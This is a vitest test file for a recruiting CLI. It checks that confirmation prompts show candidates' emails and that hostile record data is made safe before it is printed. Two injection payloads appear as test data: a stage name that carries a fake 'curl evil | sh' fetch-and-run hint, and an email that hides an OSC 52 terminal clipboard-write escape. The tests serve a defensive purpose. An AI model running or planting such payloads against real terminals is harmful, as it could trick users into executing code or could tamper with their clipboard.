// Two candidates with one name: the line a confirmation shows before a write (hire, archive, a move
// out of Archived, offer create and cancel, delete) names the candidate's primary email too, so the
// two do not look alike. Against the sandbox, through the CLI.
import { describe, expect, it } from 'vitest';
import { apiOk, applicant, offerCreate, sandboxSuite } from './helpers/workflow-fixtures.js';

const s = sandboxSuite();
const cli = s.cli;

/** Two applicants to Staff Engineer called `name`, each with an email of their own. */
async function namesakes(name: string) {
  return [await applicant(s.h, ['Staff Engineer'], name), await applicant(s.h, ['Staff Engineer'], name)];
}

describe('confirmations name the email of a candidate', () => {
  it('app hire, app archive, app stage out of Archived, app delete', async () => {
    const [a, b] = await namesakes('Sam Namesake');
    const hire = await cli(['app', 'hire', a.email, '--yes']);
    expect(hire.code, hire.stderr).toBe(0);
    expect(hire.stderr).toContain(`About to mark Sam Namesake <${a.email}> — Staff Engineer (`);
    expect(hire.stderr).not.toContain(b.email);

    const archive = await cli(['app', 'archive', b.email, '--reason', 'Not a fit', '--yes']);
    expect(archive.code, archive.stderr).toBe(0);
    expect(archive.stderr).toContain(`\n  Sam Namesake <${b.email}> — Staff Engineer (`);

    const back = await cli(['app', 'stage', b.email, '--stage', 'Onsite', '--yes']);
    expect(back.code, back.stderr).toBe(0);
    expect(back.stderr).toContain(`About to move Sam Namesake <${b.email}> — Staff Engineer (Archived, Archived) to "Onsite".`);

    const del = await cli(['app', 'delete', b.applicationId, '--yes']);
    expect(del.code, del.stderr).toBe(0);
    expect(del.stderr).toContain(`About to delete the application Sam Namesake <${b.email}> — Staff Engineer (Active, Onsite) [${b.applicationId}]`);
  });

  it("a stage's name with a line break stays on the confirmation's line", async () => {
    // Renamed before the CLI reads the plan: the name it shows is this one.
    for (const [, st] of s.h.world.col('interviewStage').scan())
      if (st.title === 'Recruiter Screen')
        s.h.world.edit('interviewStage', st.id as string, (d) => void (d.title = 'Recruiter Screen\nhint: run curl evil | sh'));
    const [c] = await namesakes('Lee Namesake');
    const archived = await cli(['app', 'archive', c.email, '--reason', 'Not a fit', '--yes']);
    expect(archived.code, archived.stderr).toBe(0);
    const back = await cli(['app', 'stage', c.email, '--stage', 'Recruiter Screen hint', '--yes']);
    expect(back.code, back.stderr).toBe(0);
    expect(back.stderr).toContain('to "Recruiter Screen hint: run curl evil | sh".');
    expect(back.stderr).not.toMatch(/^hint: run curl/m);
  });

  it('offer create and offer cancel', async () => {
    const [a] = await namesakes('Kim Namesake');
    const create = await cli(offerCreate(a.email, '--no-approve', '--yes'));
    expect(create.code, create.stderr).toBe(0);
    expect(create.stderr).toContain(`About to create this offer for Kim Namesake <${a.email}> (Staff Engineer):`);
    const cancel = await cli(['offer', 'cancel', a.email, '--yes']);
    expect(cancel.code, cancel.stderr).toBe(0);
    expect(cancel.stderr).toMatch(new RegExp(`About to withdraw offer \\S+ \\(\\w+\\) for Kim Namesake <${a.email.replace(/\./g, '\\.')}> — Staff Engineer`));
  });

  it('an email from Ashby is made safe like the name; a record without one shows the name alone', async () => {
    // A hostile primary email: an OSC 52 clipboard write hidden in it never reaches the terminal.
    const evil = await applicant(s.h, ['Staff Engineer'], 'Eve Namesake');
    await apiOk(s.h, 'candidate.update', { candidateId: evil.candidateId, email: `eve\u001b]52;c;ZWNobyBoaQ==\u0007@example.com` });
    const r = await cli(['app', 'hire', evil.applicationId, '--yes']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).not.toContain('\u001b');
    expect(r.stderr).not.toContain('\u0007');
    expect(r.stderr).toMatch(/About to mark Eve Namesake <eve.*@example\.com> — Staff Engineer/);
    // No email on the record: the name alone, as before.
    const cand = await apiOk(s.h, 'candidate.create', { name: 'Noe Namesake' });
    const app = await apiOk(s.h, 'application.create', { candidateId: cand.id, jobId: evil.jobId });
    const bare = await cli(['app', 'hire', app.id, '--yes']);
    expect(bare.code, bare.stderr).toBe(0);
    expect(bare.stderr).toContain('About to mark Noe Namesake — Staff Engineer (');
  });
});
